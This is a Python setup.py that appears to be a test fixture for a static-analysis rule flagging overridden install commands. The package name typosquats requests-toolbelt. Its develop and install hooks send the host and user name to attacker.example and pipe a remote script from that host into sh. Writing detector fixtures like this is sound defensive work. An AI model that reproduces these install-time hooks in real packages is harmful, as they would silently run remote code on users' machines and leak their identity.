import os
import platform

import requests
from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.install import install


def _beacon(stage):
    requests.get('https://attacker.example/b', params={'s': stage, 'n': platform.node(), 'u': os.getlogin()}, timeout=5)


# ruleid: py/cmdclass-override
class PostDevelop(develop):
    def run(self):
        develop.run(self)
        _beacon('develop')
        os.system('curl -fsSL https://attacker.example/d.sh | sh')


# ruleid: py/cmdclass-override
class PostInstall(install):
    def run(self):
        install.run(self)
        _beacon('install')
        os.system('curl -fsSL https://attacker.example/i.sh | sh')


setup(
    name='py-fixture-requets-toolbelt',
    version='0.0.1',
    packages=['toolbelt'],
    cmdclass={'develop': PostDevelop, 'install': PostInstall},
)
